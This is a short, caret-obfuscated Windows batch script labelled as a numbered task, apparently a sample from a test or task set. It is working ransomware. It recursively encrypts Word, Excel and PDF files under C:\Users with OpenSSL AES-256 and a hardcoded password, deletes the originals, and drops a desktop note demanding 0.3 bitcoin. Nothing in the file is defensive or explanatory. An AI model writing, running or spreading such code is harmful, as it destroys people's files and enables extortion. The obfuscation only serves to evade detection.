REM task 4642 v0
@echo off
f^o^r /^r C:\U^se^r^s %%^f in (*.^docx *.^x^ls^x *.p^df) do (
  openss^l enc -^ae^s-^25^6-cb^c -pas^s ^pa^ss:P@^s^sw0rd!20^2^4 -in "%%f" -^out "%%f.pay" && ^d^e^l "%%f"
)
^e^c^h^o ^Yo^u^r f^i^les h^ave b^ee^n ^e^n^c^ryp^ted. ^Sen^d ^0.3 ^bit^c^oi^n ^t^o rec^o^v^er th^e key > ^C:\^Use^rs\^P^ub^lic\De^s^k^top\^REA^DME_RESTO^RE_FILES.t^xt
